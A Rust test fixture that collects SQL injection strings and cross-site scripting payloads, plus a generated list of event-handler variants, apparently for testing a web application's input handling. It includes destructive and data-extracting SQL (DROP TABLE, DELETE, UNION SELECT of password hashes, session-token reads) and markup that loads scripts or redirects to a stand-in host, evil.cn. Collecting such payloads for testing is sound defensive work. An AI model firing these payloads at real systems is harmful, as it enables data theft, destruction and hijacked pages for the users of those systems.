//! What attackers type: SQL in every dialect's quoting, and markup in every corner a browser has.

use std::sync::LazyLock;

/// S12.
pub const SQL: &[&str] = &[
    "'",
    "\"",
    "`",
    "' OR '1'='1",
    "1 OR 1=1--",
    "'); DROP TABLE person;--",
    "\"; DELETE FROM account;--",
    "' UNION SELECT phc,2,3,4 FROM account--",
    "1); ATTACH DATABASE '/tmp/ink-evil.db' AS e;--",
    "' AND randomblob(100000000) AND '1",
    "%' ESCAPE '\\' OR 1=1--",
    "x' || (SELECT hex(token) FROM session) || '",
    "-9223372036854775809",
    "99999999999999999999",
    "NULL",
    "\u{0}'",
    "％＇ OR 1＝1",
    "[]{}$1?1:1@1",
    "\" NEAR(a b) * col:x AND OR NOT ^",
    "\u{202e}'\u{feff}--",
];

/// S15. `alert(1)` is what must never run: the payloads written down here, and every event handler of a
/// page on the elements that fire it.
pub static MARKUP: LazyLock<Vec<&'static str>> = LazyLock::new(|| {
    let handlers = EVENTS.iter().flat_map(|event| {
        ELEMENTS
            .iter()
            .map(move |element| format!("<{element} {event}=alert(1)>"))
    });
    let made = handlers.map(|text| &*text.leak());
    let mut all: Vec<&'static str> = WRITTEN.to_vec();
    all.extend(made.filter(|m| !WRITTEN.contains(m)));
    all
});

const ELEMENTS: &[&str] = &["img src=x", "svg", "body", "input autofocus", "video src=x"];

const EVENTS: &[&str] = &[
    "onload",
    "onerror",
    "onclick",
    "onfocus",
    "onblur",
    "onmouseover",
    "onmouseenter",
    "onpointerdown",
    "ontouchstart",
    "onwheel",
    "onscroll",
    "onkeydown",
    "oninput",
    "onchange",
    "onsubmit",
    "ontoggle",
    "onbegin",
    "onend",
    "onrepeat",
    "onanimationstart",
    "ontransitionend",
    "oncanplay",
    "onloadstart",
    "onpageshow",
    "onhashchange",
    "onmessage",
    "onbeforeunload",
];

const WRITTEN: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.cn/x.js></script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert(1)\">",
    "<img/src='x'/onerror='alert(1)'>",
    "<img src=\"x`y\" onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>点</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<math><a xlink:href=javascript:alert(1)>点</a></math>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.cn/>",
    "<meta http-equiv=refresh content='0;url=//evil.cn'>",
    "<link rel=stylesheet href=//evil.cn/x.css>",
    "<style>*{background:url(//evil.cn)}</style>",
    "<p style=\"background:url(//evil.cn)\">x",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<form action=javascript:alert(1)><button>点",
    "<button formaction=javascript:alert(1)>点",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<a href=javascript:alert(1)>点</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">点</a>",
    "<a href='  javascript:alert(1)'>点</a>",
    "<a href=\"java&#10;script:alert(1)\">点</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "\" onmouseover=alert(1) x=\"",
    "' onmouseover=alert(1) x='",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" autofocus onfocus=alert(1) \"",
    "`><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "<div hx-get=//evil.cn hx-trigger=load>",
    "<div data-hx-on:load='alert(1)'>",
    "<x onclick=alert(1)>点",
    "<%00script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "javascript:alert(1)",
];

#[test]
fn there_are_enough_and_each_once() {
    let all: std::collections::BTreeSet<&&str> = MARKUP.iter().collect();
    assert!(all.len() == MARKUP.len() && all.len() >= 200);
    assert!(MARKUP.iter().filter(|p| p.contains("alert(1)")).count() >= 60);
}
